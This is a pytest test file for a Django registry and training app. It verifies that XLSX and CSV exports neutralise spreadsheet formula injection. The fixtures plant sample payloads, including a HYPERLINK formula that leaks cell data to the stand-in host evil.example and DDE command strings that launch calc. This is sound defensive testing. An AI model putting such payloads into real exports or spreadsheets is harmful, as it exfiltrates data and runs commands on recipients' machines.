"""Spreadsheet formula injection (CWE-1236): a value a local officer types must never run as a formula when
the Centre opens an export. Every export path is opened back: XLSX with openpyxl (no cell is a formula),
CSV with the csv module (no field starts like one)."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from khuyencong.accounts.scoping import SYSTEM
from khuyencong.geo.selectors import unit_get
from khuyencong.imports.kinds import KINDS
from khuyencong.imports.services.runs import import_file
from khuyencong.projects.services.projects import project_create
from khuyencong.registry.models import CraftVillage, Establishment
from khuyencong.registry.services import craft_for_name, product_create, village_create
from khuyencong.training.services.classes import class_create
from khuyencong.training.services.trainees import roster_mark_completion, roster_paste
from khuyencong.training.services.transplants import transplant_create

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
COMMAND = "+cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def planted(client, make_user):
    """Values planted by a local officer through the normal forms (and services where a form has no such field)."""
    staff = make_user("canbo", role="centre_staff", unit="01")
    officer = make_user("phunghia", role="local_officer", unit="10030")
    client.force_login(officer)
    response = client.post(reverse("registry:establishment_create"), {
        "code": "CS-EVIL", "name": HYPERLINK, "kind": "DN", "commune_code": "10030", "commune_hierarchy": "current",
        "address": COMMAND, "workers": "12"})
    assert response.status_code == 302, response.content.decode()[:2000]
    est = Establishment.objects.get(code="CS-EVIL")
    assert est.name == HYPERLINK and est.address == COMMAND
    commune = unit_get(code="10030", hierarchy="current")
    village = village_create(actor=officer, code="LN-EVIL", name="@SUM(1+1)*cmd|' /C calc'!A0", commune=commune,
                             crafts=["mây tre đan"], recognition_decision="-2+3+cmd|' /C calc'!A0")
    product_create(actor=officer, code="SP-EVIL", name="=1+1", establishment=est)
    project_create(actor=officer, data={
        "code": "KC-EVIL", "title": "=1+1", "activity": "training", "funding_source": "local", "plan_year": 2026,
        "commune": commune, "estimated_cost": 160_000_000, "requested_funds": 150_000_000,
        "implementing_unit": "=2+2"})
    craft = craft_for_name("mây tre đan")
    cls = class_create(actor=staff, code="L-EVIL", name="=1+1", kind="truyen_nghe", craft=craft, commune=commune,
                       start_date=datetime.date(2014, 3, 1), end_date=datetime.date(2014, 6, 30), teachers="@cmd")
    trainee = roster_paste(actor=staff, training_class=cls, text="=HYPERLINK(\"http://evil.example\"); 1990; Nam\n"
                           ).trainees[0]
    roster_mark_completion(actor=staff, training_class=cls, completed={trainee.pk: "=3+3"})
    other = village_create(actor=staff, code="LN-CAY", name="=cmd|' /C calc'!A0", commune=commune,
                           crafts=["gốm sứ"])
    transplant_create(actor=staff, village=other, craft=craft, year=2015, note="=1+1")
    client.force_login(staff)
    return {"staff": staff, "establishment": est, "village": village, "class": cls}


def assert_no_formula(content: bytes, where: str, expect=()):
    """No cell of any sheet is a formula; each text of `expect` is there as a plain string cell."""
    workbook = load_workbook(io.BytesIO(content))
    strings = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {sheet.title}!{cell.coordinate} is a formula {cell.value!r}"
                if isinstance(cell.value, str):
                    strings.add(cell.value)
    for text in expect:
        assert text in strings, f"{where}: {text!r} not found as text"


def assert_no_formula_start(text: str, where: str, expect=()):
    fields = [field for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for field in row]
    for field in fields:
        assert not field.startswith(TRIGGERS), f"{where}: field {field!r} starts like a formula"
    for value in expect:
        assert "'" + value in fields, f"{where}: {value!r} not exported with its ' prefix"


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


EXPECT = {
    "establishments": [HYPERLINK, COMMAND], "craft_villages": ["@SUM(1+1)*cmd|' /C calc'!A0"],
    "products": ["=1+1"], "projects": ["=1+1"], "training_classes": ["=1+1"],
    "trainees": ['=HYPERLINK("http://evil.example")', "=3+3"], "transplants": [], "village_years": [],
    "data_values": [], "targets": [],
}


def test_every_kind_exported_from_the_page_has_no_formula(client, planted):
    assert set(EXPECT) == set(KINDS)  # a new kind must be added here
    for kind in KINDS:
        xlsx = client.get(reverse("imports:export", args=[kind, "xlsx"]))
        assert xlsx.status_code == 200, kind
        assert_no_formula(body(xlsx), f"{kind}.xlsx", EXPECT[kind])
        text = body(client.get(reverse("imports:export", args=[kind, "csv"]))).decode("utf-8")
        assert_no_formula_start(text, f"{kind}.csv", EXPECT[kind])


def test_every_kind_exported_by_the_cli_has_no_formula(planted, tmp_path):
    for kind in KINDS:
        for fmt in ("xlsx", "csv"):
            path = tmp_path / f"{kind}.{fmt}"
            call_command("export", kind, str(path), stdout=io.StringIO())
            if fmt == "xlsx":
                assert_no_formula(path.read_bytes(), f"CLI {path.name}", EXPECT[kind])
            else:
                assert_no_formula_start(path.read_text(encoding="utf-8-sig"), f"CLI {path.name}", EXPECT[kind])


def test_projects_and_training_exports_have_no_formula(client, planted):
    response = client.get(reverse("projects:project_export"))
    assert_no_formula(body(response), "projects export", ["=1+1"])
    cls = planted["class"]
    pages = {
        "class list": (reverse("training:class_list"), ["=1+1", "@cmd"]),
        "roster": (reverse("training:class_detail", args=[cls.pk]), ['=HYPERLINK("http://evil.example")', "=3+3"]),
        "follow-ups due": (reverse("training:follow_ups_due"), ['=HYPERLINK("http://evil.example")']),
        "transplants": (reverse("training:transplant_list"), ["=cmd|' /C calc'!A0"]),
    }
    for where, (url, expect) in pages.items():
        response = client.get(url, {"format": "xlsx"})
        assert response.status_code == 200, where
        assert_no_formula(body(response), where, expect)


def test_templates_and_rejects_have_no_formula(client, planted, tmp_path):
    for kind in KINDS:
        assert_no_formula(body(client.get(reverse("imports:template", args=[kind]))), f"template {kind}")
    # A CSV whose bad rows carry formula-looking text: the rejects file keeps them as text.
    path = tmp_path / "bad.csv"
    path.write_text("code,name,kind,commune_code,workers\n"
                    "A1,Cơ sở tốt,DN,10030,3\n"
                    f'B1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",DN,99999,3\n'
                    "C1,=1+1,XX,10030,@SUM(A1)\n", encoding="utf-8")
    result = import_file(user=SYSTEM, kind="establishments", path=path, valid_only=True,
                         rejects_path=tmp_path / "loi.xlsx")
    assert result.ok and result.rejected_rows == 2
    assert_no_formula((tmp_path / "loi.xlsx").read_bytes(), "rejects", [HYPERLINK, "=1+1", "@SUM(A1)"])


def test_a_formula_cell_in_an_uploaded_file_is_still_refused(tmp_path):
    """Real formula cells are refused (paste values); a string cell that starts with "=" is text."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["code", "name", "kind", "commune_code", "workers"])
    sheet.append(["F1", "Cơ sở", "DN", "10030", "=1+2"])
    sheet.append(["F2", "=SUM(1,2)", "DN", "10030", 3])
    sheet["B3"].data_type = "s"
    workbook.save(tmp_path / "f.xlsx")
    result = import_file(user=SYSTEM, kind="establishments", path=tmp_path / "f.xlsx", valid_only=True)
    assert [(e.row, e.column) for e in result.errors] == [(2, "Số lao động")]
    assert "công thức" in result.errors[0].message
    assert Establishment.objects.get(code="F2").name == "=SUM(1,2)"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_re_imports_the_original_text(planted, tmp_path, fmt):
    for kind in ("establishments", "craft_villages"):
        path = tmp_path / f"{kind}.{fmt}"
        call_command("export", kind, str(path), stdout=io.StringIO())
        result = import_file(user=SYSTEM, kind=kind, path=path, mode="update")
        assert result.ok, result.errors
        assert result.unchanged == result.total_rows > 0 and result.updated == 0
    est = Establishment.objects.get(code="CS-EVIL")
    assert (est.name, est.address) == (HYPERLINK, COMMAND)
    village = CraftVillage.objects.get(code="LN-EVIL")
    assert village.recognition_decision == "-2+3+cmd|' /C calc'!A0"


def test_csv_prefix_is_only_stripped_in_export_made_files(planted, tmp_path):
    """A CSV written by hand keeps a leading ' as typed; only our exports (marked in the header) are unescaped."""
    path = tmp_path / "tay.csv"
    path.write_text("code,name,kind,commune_code\nH1,'=tay,DN,10030\n", encoding="utf-8")
    assert import_file(user=SYSTEM, kind="establishments", path=path).ok
    assert Establishment.objects.get(code="H1").name == "'=tay"
    out = tmp_path / "xuat.csv"
    call_command("export", "establishments", str(out), stdout=io.StringIO())
    assert "''=tay" in out.read_text(encoding="utf-8-sig")  # a leading ' is escaped too, so it comes back
    result = import_file(user=SYSTEM, kind="establishments", path=out, mode="update")
    assert result.ok and result.updated == 0
    assert Establishment.objects.get(code="H1").name == "'=tay"
